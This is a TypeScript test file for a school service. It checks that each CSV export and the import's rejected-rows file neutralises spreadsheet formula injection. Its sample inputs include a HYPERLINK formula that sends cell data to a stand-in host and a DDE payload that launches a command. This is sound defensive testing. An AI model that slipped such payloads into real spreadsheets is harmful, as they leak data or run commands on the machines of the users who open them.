// Formula injection (OWASP "CSV Injection") in every CSV the service writes: the course roster,
// the section gradebook and the import's rejected rows. A name or a cell such as
// =HYPERLINK("http://evil/?"&A1) must reach the spreadsheet as text: the cell starts with an
// apostrophe. Also a formula followed by a line break inside the cell (papaparse's own
// escapeFormulae misses it) and each starting character: = + - @ tab CR.
import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { users } from '../../src/db/schema/identity.js';
import { students } from '../../src/db/schema/school.js';
import { csvLines, toCsv } from '../../src/http/csv.js';
import { createTestApp, type TestApp } from '../helpers/app.js';
import {
  caller,
  courseId,
  IQBAL,
  IQBAL_ADMIN,
  IQBAL_STUDENT,
  IQBAL_TEACHER,
  userId,
} from '../learning/helpers.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
];

let t: TestApp;
let call: ReturnType<typeof caller>;
beforeAll(async () => {
  t = await createTestApp();
  call = caller(t);
});
afterAll(() => t.close());

/** Every cell of a CSV text (BOM dropped), parsed back. */
function cells(text: string): string[] {
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  return parsed.data.flat();
}

/** No cell starts as a formula; `expected` values are there, each behind an apostrophe. */
function expectNeutralised(text: string, expected: string[]) {
  const all = cells(text);
  for (const cell of all) {
    // A number (a negative mark) is written as a number on purpose; a text that is only a
    // signed number (a mobile +923001234567) cannot hold a formula and keeps its sign.
    if (/^[+-]?\d+(\.\d+)?$/.test(cell)) continue;
    expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  }
  for (const value of expected) {
    expect(
      all.some((cell) => cell.includes(`'${value}`)),
      `${JSON.stringify(value)} in ${JSON.stringify(all)}`,
    ).toBe(true);
  }
}

describe('the CSV writer', () => {
  it('puts an apostrophe before every formula start, and leaves numbers as numbers', () => {
    const text = toCsv(['a', 'b'], [...FORMULAS.map((f) => [f, -5]), ['plain', 3.5]]);
    expectNeutralised(text, FORMULAS);
    expect(text).toContain(',-5\r\n');
    expect(text).toContain('plain,3.5\r\n');
    expect(toCsv(['mobile'], [['+923001234567'], ['+92 300']])).toContain(
      "+923001234567\r\n'+92 300\r\n",
    );
    expect(csvLines([])).toBe('');
  });
});

describe('every export', () => {
  it('the course roster', async () => {
    const student = await userId(t, IQBAL_STUDENT);
    await t.query((tx) =>
      tx
        .update(users)
        .set({ first_name: FORMULAS[6]!, last_name: 'Khan' })
        .where(eq(users.id, student)),
    );
    const python = await courseId(t, IQBAL, 'Python for Beginners');
    const response = await call(IQBAL_TEACHER, 'GET', `/courses/${python}/roster/export`);
    expect(response.statusCode, response.body).toBe(200);
    expectNeutralised(response.body, [FORMULAS[6]!]);
  });

  it('the section gradebook', async () => {
    const classes = (await call(IQBAL_ADMIN, 'GET', '/school/classes/')).json().items as {
      name: string;
      sections: { id: number; name: string }[];
    }[];
    const section = classes
      .find((c) => c.name === 'Class 5')!
      .sections.find((s) => s.name === 'A')!;
    await t.query((tx) =>
      tx.update(students).set({ first_name: FORMULAS[0]! }).where(eq(students.tenant_id, IQBAL)),
    );
    const response = await call(IQBAL_ADMIN, 'GET', `/gradebook/sections/${section.id}/csv`);
    expect(response.statusCode, response.body).toBe(200);
    expectNeutralised(response.body, [FORMULAS[0]!]);
  });

  it('the office’s exports: students, defaulters, ledger, collection, month register, results', async () => {
    await t.query((tx) =>
      tx
        .update(students)
        .set({ first_name: FORMULAS[3]!, last_name: FORMULAS[6]! })
        .where(eq(students.tenant_id, IQBAL)),
    );
    const classes = (await call(IQBAL_ADMIN, 'GET', '/school/classes/')).json().items as {
      name: string;
      sections: { id: number; name: string }[];
    }[];
    const section = classes
      .find((c) => c.name === 'Class 5')!
      .sections.find((s) => s.name === 'A')!;
    const [defaulter] = (await call(IQBAL_ADMIN, 'GET', '/fees/defaulters?limit=1')).json().items;
    const exams = (await call(IQBAL_ADMIN, 'GET', '/exams')).json().items as {
      id: number;
      name: string;
    }[];
    const mid = exams.find((e) => e.name === 'Mid-Term')!;
    const month = new Date(Date.now() - 7 * 86_400_000).toISOString().slice(0, 7);
    const names = [FORMULAS[3]!, FORMULAS[6]!];
    for (const [url, expected] of [
      ['/students/export', names],
      ['/fees/defaulters/export', [`${FORMULAS[3]} ${FORMULAS[6]}`]],
      [
        '/fees/reports/collection/export?from=2000-01&to=2100-12',
        [`${FORMULAS[3]} ${FORMULAS[6]}`],
      ],
      [`/attendance/sections/${section.id}/months/${month}/export`, names],
      [`/exams/${mid.id}/sections/${section.id}/results/export`, names],
      [`/fees/students/${defaulter.student_id}/ledger/export`, []],
    ] as const) {
      const response = await call(IQBAL_ADMIN, 'GET', url);
      expect(response.statusCode, `${url} ${response.body}`).toBe(200);
      expectNeutralised(response.body, [...expected]);
    }
  });

  it('the import’s rejected rows', async () => {
    const header = [
      'Admission No',
      'First Name',
      'Last Name',
      'Gender',
      'Date of Birth',
      'Class',
      'Section',
      'Guardian Name',
      'Guardian Relation',
      'Guardian CNIC',
      'Guardian Mobile',
    ];
    // Each row is refused (a CNIC of the wrong shape) and so comes back in rejected_csv.
    const rows = FORMULAS.slice(0, 4).map((formula, i) => [
      `INJ-${i}`,
      formula,
      'Test',
      'male',
      '14/08/2017',
      'Class 2',
      'A',
      formula,
      'father',
      '35202-12-1',
      '03001234567',
    ]);
    const csv = Papa.unparse([header, ...rows]);
    const response = await call(IQBAL_ADMIN, 'POST', '/students/import', {
      file_name: 'students.csv',
      content_base64: Buffer.from(csv).toString('base64'),
      mode: 'valid_only',
    });
    expect(response.statusCode, response.body).toBe(200);
    const rejected = response.json().rejected_csv as string;
    expect(rejected).toBeTruthy();
    expectNeutralised(rejected, FORMULAS.slice(0, 4));
  });
});
